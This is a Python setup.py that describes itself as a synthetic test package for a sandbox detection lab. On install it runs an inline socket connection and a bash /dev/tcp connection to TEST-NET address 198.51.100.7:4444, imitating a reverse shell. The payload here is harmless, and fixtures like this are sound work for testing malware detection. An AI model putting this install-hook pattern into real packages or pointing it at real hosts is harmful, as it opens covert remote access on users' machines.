# SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
# At install: an inline-interpreter "reverse shell" to a TEST-NET address (redirected to the
# sandbox's sinkhole; nothing leaves) and a bash /dev/tcp attempt to the same address.
import subprocess
import sys

from setuptools import setup

CODE = ("import socket;s=socket.socket();s.settimeout(2);"
        "s.connect(('198.51.100.7',4444));s.sendall(b'hello from slop-revshell\\n');s.close()")
subprocess.run([sys.executable, "-c", CODE], check=False, timeout=10)
subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444; echo id >&3"], check=False, timeout=10,
               stderr=subprocess.DEVNULL)
setup(name="slop-revshell", version="0.1.0", py_modules=["slop_revshell"])
